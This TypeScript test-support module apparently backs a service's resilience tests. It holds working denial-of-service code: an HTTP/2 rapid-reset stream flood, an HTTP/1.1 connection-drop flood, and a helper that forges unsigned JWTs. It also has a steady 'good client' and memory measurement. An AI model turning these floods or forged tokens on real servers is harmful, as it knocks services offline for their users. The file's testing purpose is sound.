/** What the attack tests attack with, and how they see that good clients do not notice. */
import { megabytesOfRollup } from "../../bench/procfs.ts";
import type { Service } from "../../e2e/harness.ts";
import {
  block,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  PREFACE,
  RST_STREAM,
  SETTINGS,
} from "../../support/raw_http2.ts";
import { base64url, type Members } from "../../support/tokens.ts";
import { pause } from "../../support/waiting.ts";

/** An attack that runs until it is stopped. */
export interface Attack {
  /** How many requests it has sent so far. */
  readonly sent: number;
  stop(): Promise<void>;
}

/** A token of this issuer for this `kid`, valid but for its signature. */
export function unsignedToken(issuer: string, kid: string, more: Members = {}): string {
  const now = Math.floor(Date.now() / 1000);
  const claims = { iss: issuer, sub: "attack", iat: now, exp: now + 3600, ...more };
  const parts = [{ alg: "RS256", typ: "JWT", kid }, claims].map((part) => JSON.stringify(part));
  return [...parts.map(base64url), base64url(new Uint8Array(256).fill(7))].join(".");
}

const bytesOf = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));

/** Streams of one connection at once: as many as the server allows. */
const STREAMS = 200;

/** How long a stream stays open before it is reset, in milliseconds. */
const STREAM_MS = 25;

/** HTTP/2 without TLS: streams on one connection, each reset soon; a connection that ends is replaced. */
export function resetStreams(url: string, token: () => string): Attack {
  const { host } = new URL(url);
  let over = false;
  let sent = 0;
  const requestHead = () =>
    block([
      [":method", "GET"],
      [":scheme", "http"],
      [":path", "/"],
      [":authority", host],
      ["host", host],
      ["authorization", `Bearer ${token()}`],
    ]);
  async function connection(): Promise<void> {
    using socket = await connectTo(url);
    const drained = drain(socket);
    try {
      await writeAll(socket, PREFACE + frame(SETTINGS, 0, 0, ""));
      for (let stream = 1; !over; stream += 2 * STREAMS) {
        const ids = Array.from({ length: STREAMS }, (_, i) => stream + 2 * i);
        const flags = END_STREAM | END_HEADERS;
        await writeAll(socket, ids.map((id) => frame(HEADERS, flags, id, requestHead())).join(""));
        sent += ids.length;
        await pause(STREAM_MS);
        await writeAll(socket, ids.map((id) => frame(RST_STREAM, 0, id, "\0\0\0\b")).join(""));
      }
    } catch {
      // The server has ended it.
    }
    socket.close();
    await drained;
  }
  const running = (async () => {
    while (!over) await connection().catch(() => pause(10));
  })();
  return attack(() => sent, () => {
    over = true;
    return running;
  });
}

/** HTTP/1.1: connections that are dropped soon after their request. */
export function dropConnections(url: string, token: () => string, connections: number): Attack {
  const { host } = new URL(url);
  let over = false;
  let sent = 0;
  const running = Promise.all(Array.from({ length: connections }, async () => {
    while (!over) {
      try {
        using socket = await connectTo(url);
        const head = `GET / HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token()}\r\n\r\n`;
        await writeAll(socket, head);
        sent++;
        await pause(30);
      } catch {
        await pause(10);
      }
    }
  }));
  return attack(() => sent, async () => {
    over = true;
    await running;
  });
}

function attack(sent: () => number, stop: () => Promise<void>): Attack {
  return {
    get sent() {
      return sent();
    },
    stop,
  };
}

function connectTo(url: string): Promise<Deno.TcpConn> {
  const { hostname, port } = new URL(url);
  return Deno.connect({ hostname: hostname.replace(/^\[|\]$/g, ""), port: Number(port) });
}

async function writeAll(socket: Deno.Conn, text: string): Promise<void> {
  const bytes = bytesOf(text);
  for (let at = 0; at < bytes.length;) at += await socket.write(bytes.subarray(at));
}

async function drain(socket: Deno.Conn): Promise<void> {
  const buffer = new Uint8Array(64 * 1024);
  try {
    while (await socket.read(buffer) !== null);
  } catch {
    // It has been closed.
  }
}

/** A good client that calls all the time. */
export interface GoodClient {
  /** How many responses of each status it got; 0 stands for none at all. */
  readonly statuses: Readonly<Record<number, number>>;
  stop(): Promise<void>;
}

/** Calls with this good token, one request after the other, a moment apart. */
export function callSteadily(url: string, token: string): GoodClient {
  const statuses: Record<number, number> = {};
  let over = false;
  const running = (async () => {
    while (!over) {
      const status = await fetch(url, {
        headers: { authorization: `Bearer ${token}` },
        signal: AbortSignal.timeout(5_000),
      }).then(async (response) => {
        await response.body?.cancel();
        return response.status;
      }, () => 0);
      statuses[status] = (statuses[status] ?? 0) + 1;
      await pause(5);
    }
  })();
  return {
    statuses,
    async stop() {
      over = true;
      await running;
    },
  };
}

/** Memory of all processes of a service (PSS), in MB. */
export function memoryOf(service: Service): number {
  return [service.process.pid, ...service.workers()].reduce(
    (sum, pid) =>
      sum + megabytesOfRollup(Deno.readTextFileSync(`/proc/${pid}/smaps_rollup`), "Pss"),
    0,
  );
}

/** Prints what was measured, one line. */
export function report(what: string, figures: Readonly<Record<string, unknown>>): void {
  Deno.stdout.writeSync(new TextEncoder().encode(`${what}: ${JSON.stringify(figures)}\n`));
}
